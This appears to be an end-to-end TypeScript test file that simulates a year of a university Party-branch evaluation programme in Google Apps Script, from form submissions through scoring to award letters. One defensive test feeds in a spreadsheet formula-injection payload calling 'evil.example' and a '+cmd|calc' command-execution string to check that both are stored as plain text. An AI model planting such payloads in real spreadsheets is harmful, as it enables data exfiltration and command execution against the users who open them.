/**
 * A whole (small) programme year through the built bundle, driven as Google drives it: every
 * response is a form submission that fires `onFormSubmitTrigger`, staff work in the sheets, the
 * daily clock trigger draws the showcase on the 25th and finalises the month on the 1st, and the
 * letters job continues itself through its one-off trigger.
 *
 * The steps share one world and run in order.
 */
import { addMonths, daysInMonth, formatDate, monthsBetween, pad2 } from '../../src/domain/calendar';
import { t } from '../../src/domain/messages';
import { createRng, shuffle, type Rng } from '../../src/domain/prng';
import type { RunResult } from '../sandbox';
import { nextClockRun } from '../sandbox/services';
import {
  activityAnswers,
  addJudges,
  applicationAnswers,
  approvedChoices,
  approveNominations,
  compactSheets,
  cst,
  defenseAnswers,
  editRows,
  freshGas,
  nominationAnswers,
  reviewBranches,
  sheetRecords,
  SHEETS,
  submit,
  voteAnswers,
  type Gas,
  type SheetRecord,
} from './support';

const MONTHS = monthsBetween('2026-09', '2027-06');
const THEMES = [
  '树一个标志',
  '访一位学长',
  '读一本好书',
  '看一部老片',
  '唱一首老歌',
  '做一件实事',
  '献一份厚礼',
];
const TIERS = ['低年级本科生党支部', '高年级本科生党支部', '研究生党支部'];
const UNITS = ['计算机学院', '经济管理学院', '外国语学院', '机械工程学院'];
const VOTERS = ['王建国', '陈志强', '赵敏', '郑雨涵', '胡博文'];
const JUDGES = ['刘振华', '孙丽', '周明', '吴静', '郑凯'];
/** 孙丽 belongs to B003: her sheet for B003 is a conflict of interest. */
const CONFLICTED = { judge: '孙丽', branch: 'B003' };
const APPROVED = Array.from({ length: 10 }, (_, i) => `B${String(i + 1).padStart(3, '0')}`);
const REJECTED = ['B011', 'B012'];
const PRESENTERS = 3;
/** B010 reports only study sessions in the spring: short of the semester rule, so no award. */
const SHORT_OF_RULE = 'B010';

const between = (rng: Rng, lo: number, hi: number) => lo + rng.int(hi - lo + 1);
const at = (date: string, hour: number, minute = 0) => cst(`${date} ${pad2(hour)}:${pad2(minute)}`);
/** The date in Asia/Shanghai of an instant. */
const localDay = (ms: number) => new Date(ms + 8 * 3600_000).toISOString().slice(0, 10);

interface Planned {
  readonly at: Date;
  readonly branch: string;
  readonly answers: Record<string, string>;
}

/** About two activity reports per branch in `month`, dated in its teaching weeks, filed soon after. */
function plannedActivities(rng: Rng, month: string, choices: readonly string[]): Planned[] {
  const [y, m] = month.split('-').map(Number) as [number, number];
  // Branches are approved in the first week; autumn ends on 01-20, spring starts on 02-20.
  const [first, last] = m === 9 ? [8, 27] : m === 1 ? [4, 18] : m === 2 ? [20, 26] : [2, 27];
  const out: Planned[] = [];
  choices.forEach((choice, b) => {
    const id = choice.slice(0, 4);
    const count = rng.next() < 0.15 ? 1 : rng.next() < 0.2 ? 3 : 2;
    for (let k = 0; k < count; k++) {
      const day = between(rng, first, last);
      const date = formatDate(y, m, day);
      const filed = Math.min(day + between(rng, 0, 2), daysInMonth(y, m) - 2);
      const spring = y === 2027 && m >= 2;
      const kind =
        spring && id === SHORT_OF_RULE
          ? '专题学习会'
          : rng.next() < 0.8
            ? THEMES[rng.int(THEMES.length)]!
            : rng.next() < 0.5
              ? '特色活动'
              : '社会实践';
      const participants = between(rng, 12, 60);
      out.push({
        at: at(formatDate(y, m, filed), between(rng, 8, 22), between(rng, 0, 59)),
        branch: id,
        answers: activityAnswers(choice, {
          date,
          kind,
          title: `${kind}：第${b + 1}支部${month}主题活动${k + 1}`,
          description: `围绕“${kind}”开展组织生活，面向党外青年学生。`,
          participants: String(participants),
          nonParty: String(Math.floor(participants * rng.next() * 0.8)),
          counselorPresent: rng.next() < 0.4 ? '是' : '否',
          evidenceLink: rng.next() < 0.9 ? `https://example.edu/evidence/${month}/${id}/${k}` : '',
          funds: rng.next() < 0.3 ? String(between(rng, 50, 800)) : '',
        }),
      });
    }
  });
  return out.sort((a, b) => a.at.getTime() - b.at.getTime());
}

function rows(gas: Gas, sheet: string, where: (r: SheetRecord) => boolean = () => true) {
  return sheetRecords(gas.world, sheet).filter(where);
}

function expectOk(run: RunResult): void {
  if (!run.ok) throw run.error;
}

describe('a programme year through the bundle', () => {
  const gas = freshGas();
  const { world, bundle } = gas;
  compactSheets(world);
  const rng = createRng('gas-year-test');
  let choices: string[] = [];
  const failed: RunResult[] = [];
  const dailyRuns: RunResult[] = [];
  /** Moves the clock to `when`, the daily trigger firing on the way. */
  const clockTo = (when: Date) => {
    // Every submission here runs alone, so the ten-minute sweep never finds a row waiting: it is
    // set aside while the clock jumps (tens of thousands of empty runs over a year) and put back.
    const sweeps = world._triggers.filter((tr) => tr.handler === 'sweepInbox');
    world._triggers = world._triggers.filter((tr) => tr.handler !== 'sweepInbox');
    try {
      for (const run of bundle.runClock(when)) {
        if (run.execution.label === 'dailyTrigger') dailyRuns.push(run);
        if (!run.ok) failed.push(run);
      }
    } finally {
      for (const sweep of sweeps) sweep.nextRunMs = nextClockRun(sweep.clock!, world.nowMs);
      world._triggers.push(...sweeps);
    }
  };
  const send = (...args: Parameters<typeof submit>) => {
    clockTo(args[3]?.at ?? world.now);
    const result = submit(...args);
    if (!result.run.ok) failed.push(result.run);
    return result;
  };

  it('stage 1: twelve branches apply through the application form', () => {
    for (let i = 0; i < 12; i++) {
      send(
        gas,
        'application',
        applicationAnswers(`${UNITS[i % 4]}第${i + 1}学生党支部`, {
          tier: TIERS[i % 3]!,
          unit: UNITS[i % 4]!,
          secretary: `书记${i + 1}`,
          email: `secretary${i + 1}@example.edu`,
          members: String(8 + i),
        }),
        {
          at: at(`2026-09-0${2 + Math.floor(i / 3)}`, 9 + (i % 3) * 4, (7 * i) % 60),
          email: `s${i + 1}@example.edu`,
        },
      );
    }
    expect(failed).toEqual([]);
    const branches = rows(gas, SHEETS.branches);
    expect(branches.map((b) => b['支部编号'])).toEqual([...APPROVED, ...REJECTED]);
    expect(new Set(branches.map((b) => b['审核状态']))).toEqual(new Set(['待审核']));
    expect(rows(gas, SHEETS.rejected)).toEqual([]);
  });

  it('staff approve ten in the sheet, list the judges, and refresh the dropdowns', () => {
    reviewBranches(world, APPROVED, REJECTED);
    addJudges(
      world,
      JUDGES.map((name) => ({
        name,
        email: `${name.length}${name.charCodeAt(0)}@example.edu`,
        ...(name === CONFLICTED.judge ? { ownBranch: CONFLICTED.branch, note: 'B003 党员' } : {}),
      })),
    );
    // A smaller college: eight advanced branches, three presenters a month (two at the top, one
    // spot check). With the default five and a two-month cooldown, ten branches would run out of
    // eligible presenters every third month.
    const settings = { advancedBranchCount: '8', showcaseTopK: '2', spotCheckCount: '1' };
    for (const [key, value] of Object.entries(settings)) {
      expect(editRows(world, SHEETS.config, (r) => r['键'] === key, { 值: value })).toBe(1);
    }
    expect(bundle.call('refreshFormChoices')).toBe('10 个支部已写入 4 个下拉选项');
    choices = approvedChoices(world);
    expect(choices).toHaveLength(10);
    expect(choices[0]).toMatch(/^B001 计算机学院第1学生党支部$/);
    for (const form of ['activity', 'vote', 'defense', 'nomination'] as const) {
      const dropdown = world
        .describeForm(gas.forms[form])
        .items.find((i) => ['支部', '汇报支部', '答辩支部'].includes(i.title))!;
      expect(dropdown.type).toBe('LIST');
      expect(dropdown.choices).toEqual(choices);
    }
  });

  /** The month's results as the 1st-of-month trigger left them. */
  const checkResults = (month: string) => {
    const results = rows(gas, SHEETS.monthly, (r) => r['月份'] === month);
    expect(results.map((r) => r['支部编号']).sort()).toEqual(APPROVED);
    for (const r of results) {
      expect(r['星级']).toBeGreaterThanOrEqual(0);
      expect(r['星级']).toBeLessThanOrEqual(5);
      expect(r['排名']).toBeGreaterThanOrEqual(1);
      expect(r['月度得分']).toBeGreaterThanOrEqual(0);
      expect(r['月度得分']).toBeLessThanOrEqual(100);
      expect(r['计算时间']).toMatch(new RegExp(`^${addMonths(month, 1)}-01 06:`));
    }
    // Standard competition ranking by score.
    for (const r of results) {
      const higher = results.filter((x) => Number(x['月度得分']) > Number(r['月度得分'])).length;
      expect(r['排名']).toBe(higher + 1);
    }
    const presented = rows(gas, SHEETS.showcase, (r) => r['月份'] === month).map(
      (r) => r['支部编号'],
    );
    expect(presented).toHaveLength(PRESENTERS);
    const shown = results.filter((r) => r['示范汇报'] === '是').map((r) => r['支部编号']);
    expect(shown.sort()).toEqual([...presented].sort());
    const stars = results.filter((r) => r['当月星级支部'] === '是');
    expect(stars).toHaveLength(1);
    // The highest on-site aggregate: 92..96 from five voters, trimmed, is 94.
    expect(stars[0]!['现场评分']).toBe(94);
    expect(presented).toContain(stars[0]!['支部编号']);
  };

  /** Fires the daily trigger once more on the same day: it must find nothing left to do. */
  const fireDailyAgain = (when: Date) => {
    clockTo(when);
    const daily = world.triggers().find((t) => t.handler === 'dailyTrigger')!;
    const before = [SHEETS.showcase, SHEETS.monthly].map((n) => world.readSheet(n));
    const again = bundle.fire(daily);
    expect(again.ok).toBe(true);
    expect(again.value).toBe(t('zh-CN', 'gas.ingest.reconciled', { count: 0 }));
    expect([SHEETS.showcase, SHEETS.monthly].map((n) => world.readSheet(n))).toEqual(before);
  };

  it('stage 2: reports every month; showcase on the 25th, votes, results on the 1st', () => {
    for (const month of MONTHS) {
      const showcaseDay = at(`${month}-25`, 10);
      const meeting = at(`${month}-27`, 15);
      const events: { at: Date; run: () => void }[] = [
        ...plannedActivities(rng, month, choices).map((planned) => ({
          at: planned.at,
          run: () =>
            send(gas, 'activity', planned.answers, {
              at: planned.at,
              email: `${planned.branch.toLowerCase()}@example.edu`,
            }),
        })),
        {
          // The trigger drew the showcase at 06:xx; a retried run later that day changes nothing.
          at: showcaseDay,
          run: () => {
            clockTo(showcaseDay);
            expect(world.properties()[`done:showcase:${month}`]).toMatch(
              new RegExp(`^${month}-25 06:`),
            );
            fireDailyAgain(showcaseDay);
          },
        },
        {
          // The summary meeting: 5 voters score each branch the trigger picked on the 25th.
          at: meeting,
          run: () => {
            clockTo(meeting);
            const presenters = rows(gas, SHEETS.showcase, (r) => r['月份'] === month);
            expect(presenters).toHaveLength(PRESENTERS);
            const bases = shuffle(rng, [94, 86, 78]);
            presenters.forEach((p, i) => {
              const choice = choices.find((c) => c.startsWith(String(p['支部编号'])))!;
              VOTERS.forEach((voter, v) => {
                send(gas, 'vote', voteAnswers(month, voter, choice, bases[i]! + v - 2), {
                  at: new Date(meeting.getTime() + (i * 5 + v) * 60_000),
                  email: `voter${v}@example.edu`,
                });
              });
            });
          },
        },
      ];
      events.sort((a, b) => a.at.getTime() - b.at.getTime());
      for (const event of events) event.run();
      if (month === MONTHS[MONTHS.length - 1]) break; // June: the defense comes first
      const first = at(`${addMonths(month, 1)}-01`, 12);
      clockTo(first);
      checkResults(month);
      fireDailyAgain(new Date(first.getTime() + 3600_000));
    }
    expect(failed).toEqual([]);
    const activities = rows(gas, SHEETS.activities);
    expect(activities.length).toBeGreaterThan(180);
    expect(new Set(activities.map((a) => a['响应编号'])).size).toBe(activities.length);
    expect(rows(gas, SHEETS.votes)).toHaveLength(MONTHS.length * PRESENTERS * VOTERS.length);
    expect(rows(gas, SHEETS.rejected)).toEqual([]);
    // The clock trigger ran once a day (plus the retries fired on purpose), every run fine.
    const days = new Set(dailyRuns.map((r) => localDay(r.execution.startMs)));
    expect(days.size).toBeGreaterThan(290);
  });

  it('bad input ends in 待处理, or as literal text in the canonical sheet', () => {
    const when = at('2027-06-28', 23);
    const unknown = send(
      gas,
      'activity',
      activityAnswers('B099 不存在的支部', { date: '2027-06-26' }),
      { at: when, email: 'x@example.edu' },
    );
    const crowd = send(
      gas,
      'activity',
      activityAnswers(choices[1]!, { date: '2027-06-26', participants: '20', nonParty: '35' }),
      { at: when, email: 'y@example.edu' },
    );
    const formula = '=IMPORTXML("https://evil.example/x","//a")';
    const literal = send(
      gas,
      'activity',
      activityAnswers(choices[2]!, {
        date: '2027-06-27',
        title: formula,
        description: '+cmd|calc',
      }),
      { at: when, email: 'z@example.edu' },
    );
    for (const r of [unknown, crowd, literal]) expect(r.run.ok).toBe(true);
    const rejected = rows(gas, SHEETS.rejected);
    expect(rejected.map((r) => r['响应编号']).sort()).toEqual(
      [unknown.responseId, crowd.responseId].sort(),
    );
    const reason = (id: string) => String(rejected.find((r) => r['响应编号'] === id)!['原因']);
    expect(reason(unknown.responseId)).toMatch(/^「支部」填的是“B099 不存在的支部”/);
    expect(reason(crowd.responseId)).toBe('「党外群众人数」35 多于参加人数 20；应不超过参加人数');
    expect(rejected.map((r) => r['活动日期'])).toEqual(['2027-06-26', '2027-06-26']);
    expect(JSON.parse(String(rejected[0]!['原始内容']))).toHaveProperty('活动名称');

    const values = world.readSheet(SHEETS.activities)!;
    const header = values[0]!.map(String);
    const row = values.findIndex((r) => r[header.indexOf('响应编号')] === literal.responseId);
    expect(values[row]![header.indexOf('活动名称')]).toBe(formula);
    expect(values[row]![header.indexOf('活动内容')]).toBe('+cmd|calc');
    const formulas = world.readFormulas(SHEETS.activities)!;
    expect(formulas[row]![header.indexOf('活动名称')]).toBe('');
    expect(formulas.flat().filter((f) => f !== '')).toEqual([]);
  });

  it('stage 3: judges listed in 评委 score the June defense through the form', () => {
    // Nominations; staff approve three of four.
    const nominees = [
      [choices[0]!, '李明', '2023010101'],
      [choices[1]!, '王芳', '2023020202'],
      [choices[3]!, '张伟', '2022030303'],
      [choices[5]!, '刘洋', '2024040404'],
    ] as const;
    nominees.forEach(([choice, name, id], i) =>
      send(gas, 'nomination', nominationAnswers(choice, name, id), {
        at: at('2027-06-28', 23, 10 + 10 * i),
        email: `${id}@stu.example.edu`,
      }),
    );
    expect(rows(gas, SHEETS.nominations).map((n) => n['审核状态'])).toEqual(
      Array(4).fill('待审核'),
    );
    expect(approveNominations(world, (r) => r['姓名'] !== '刘洋')).toBe(3);

    const quality = new Map(choices.map((c, i) => [c, 0.95 - i * 0.04]));
    let minute = 0;
    for (const choice of choices) {
      for (const judge of JUDGES) {
        const q = quality.get(choice)! + (rng.next() - 0.5) * 0.1;
        const marks = [40, 25, 15, 10, 10].map((max) =>
          Math.min(max, Math.round(max * q * 2) / 2),
        ) as [number, number, number, number, number];
        send(gas, 'defense', defenseAnswers(judge, choice, marks, '材料翔实'), {
          at: new Date(at('2027-06-29', 9).getTime() + minute++ * 120_000),
          email: `${judge.length}${judge.charCodeAt(0)}@example.edu`,
        });
      }
    }
    // 周明 corrects his sheet for B005 after the session.
    send(gas, 'defense', defenseAnswers('周明', choices[4]!, [30, 20, 12, 8, 8], '更正'), {
      at: at('2027-06-29', 16),
      email: 'zm@example.edu',
    });
    expect(failed).toEqual([]);

    const sheets = rows(gas, SHEETS.defense);
    expect(sheets).toHaveLength(51);
    const byStatus = (s: string) => sheets.filter((r) => r['状态'] === s);
    expect(byStatus('回避').map((r) => [r['评委姓名'], r['支部编号']])).toEqual([
      [CONFLICTED.judge, CONFLICTED.branch],
    ]);
    const superseded = byStatus('已被替代');
    expect(superseded.map((r) => [r['评委姓名'], r['支部编号'], r['评语']])).toEqual([
      ['周明', 'B005', '材料翔实'],
    ]);
    expect(byStatus('有效')).toHaveLength(49);
  });

  it('07-01: June is finalised once, however often the trigger fires', () => {
    const first = at('2027-07-01', 8);
    clockTo(first);
    checkResults('2027-06');
    fireDailyAgain(new Date(first.getTime() + 3600_000));
    expect(rows(gas, SHEETS.monthly)).toHaveLength(MONTHS.length * APPROVED.length);
    expect(failed).toEqual([]);
  });

  it('the defense is aggregated: the conflict and the superseded sheet do not count', () => {
    expect(bundle.call('aggregateDefenseNow')).toMatch(/10/);
    const results = rows(gas, SHEETS.defenseResults);
    expect(results.map((r) => r['支部编号']).sort()).toEqual(APPROVED);
    const b003 = results.find((r) => r['支部编号'] === 'B003')!;
    expect(b003['有效评委数']).toBe(4);
    expect(b003['去掉的分数']).toBe('');
    const b005 = results.find((r) => r['支部编号'] === 'B005')!;
    expect(b005['有效评委数']).toBe(5);
    expect(String(b005['去掉的分数'])).not.toBe('');
    expect(results.every((r) => r['评委不足'] !== '是')).toBe(true);
    const ranks = results.map((r) => Number(r['排名'])).sort((a, b) => a - b);
    expect(ranks[0]).toBe(1);
  });

  it('stage 4: awards, then one letter per award through a self-continuing job', () => {
    expect(bundle.call('selectAwardsNow')).toMatch(
      /^8 个先进党支部，3 名优秀学生党员\n1 个支部不符合评选条件（学期活动不足）：B\d{3} /,
    );
    const awards = rows(gas, SHEETS.awards);
    expect(awards).toHaveLength(11);
    const branchAwards = awards.filter((a) => a['表彰类别'] === '先进党支部');
    expect(branchAwards).toHaveLength(8);
    expect(branchAwards.map((a) => a['支部编号'])).not.toContain(SHORT_OF_RULE);
    expect(branchAwards.map((a) => a['排名'])).toEqual([1, 2, 3, 4, 5, 6, 7, 8]);
    const members = awards.filter((a) => a['表彰类别'] === '优秀学生党员');
    expect(members.map((a) => a['获奖者']).sort()).toEqual(['张伟', '李明', '王芳'].sort());

    world.setCost('Drive.Files.copy', 60_000);
    const started = world.executions.length;
    const first = bundle.call<string>('generateLetters');
    expect(first).toContain(t('zh-CN', 'menu.lettersContinue'));
    const madeFirst = rows(gas, SHEETS.awards, (a) => a['证书文件'] !== '').length;
    expect(madeFirst).toBeGreaterThanOrEqual(4);
    expect(madeFirst).toBeLessThanOrEqual(5);
    const continuations = () => world.triggers().filter((t) => t.handler === 'continueLetters');
    expect(continuations()).toHaveLength(1);

    for (let round = 0; round < 5 && continuations().length > 0; round++) {
      const runs = bundle.runClock(61_000);
      expect(runs.filter((r) => r.execution.label === 'continueLetters')).toHaveLength(1);
      for (const r of runs) expectOk(r);
      expect(continuations().length).toBeLessThanOrEqual(1);
    }
    expect(continuations()).toEqual([]);
    const letterRuns = world.executions
      .slice(started)
      .filter((e) => ['generateLetters', 'continueLetters'].includes(e.label));
    expect(letterRuns.length).toBe(3);
    for (const e of letterRuns) expect(e.endMs! - e.startMs).toBeLessThan(world.timeLimitMs);

    // Exactly one Google Doc per award, linked from 表彰, filled and shared.
    const done = rows(gas, SHEETS.awards);
    const template = rows(gas, SHEETS.config).find((r) => r['键'] === 'letterTemplate')!['值'];
    const docs = world
      .files()
      .filter((f) => f.mimeType === 'application/vnd.google-apps.document' && f.id !== template);
    expect(docs).toHaveLength(done.length);
    expect(new Set(done.map((a) => a['证书文件']))).toEqual(new Set(docs.map((d) => d.id)));
    for (const award of done) {
      const id = String(award['证书文件']);
      expect(award['证书链接']).toBe(`https://docs.google.com/document/d/${id}/edit?usp=sharing`);
      expect(award['生成时间']).toMatch(/^2027-07-01 /);
      const text = world.documentText(id);
      expect(text).not.toContain('{{');
      expect(text).toContain(String(award['获奖者']));
      // Dated the way a 荣誉证书 is, under the issuing body's name, with room for the seal.
      expect(text).toContain('二〇二七年七月一日');
      // A member's letter cites what the nomination says the member did.
      if (award['表彰类别'] === '优秀学生党员') {
        expect(text).toContain('学习成绩优异，担任班级学习委员，积极参与志愿服务200小时，');
      } else {
        expect(text).not.toContain('学习成绩优异');
      }
      const file = world.describeFile(id)!;
      expect(file.permissions).toEqual(
        expect.arrayContaining([
          expect.objectContaining({ type: 'domain', domain: world.domain, role: 'reader' }),
        ]),
      );
      expect(file.permissions.some((p) => p.type === 'anyone')).toBe(false);
    }
    // What remains installed is what setup documents: the spreadsheet's form-submit trigger, the
    // ten-minute sweep and the daily trigger.
    expect(
      world
        .triggers()
        .map((t) => t.handler)
        .sort(),
    ).toEqual(['dailyTrigger', 'onFormSubmitTrigger', 'sweepInbox']);
    // Running it again makes nothing new.
    expect(bundle.call('generateLetters')).toMatch(/^生成证书 0 封/);
    expect(world.files().length).toBe(docs.length + 7);
  });

  it('nothing failed all year, and nothing was ever written as a formula', () => {
    expect(failed).toEqual([]);
    for (const name of Object.values(SHEETS)) {
      expect([
        name,
        world
          .readFormulas(name)!
          .flat()
          .filter((f) => f !== ''),
      ]).toEqual([name, []]);
    }
  });
});
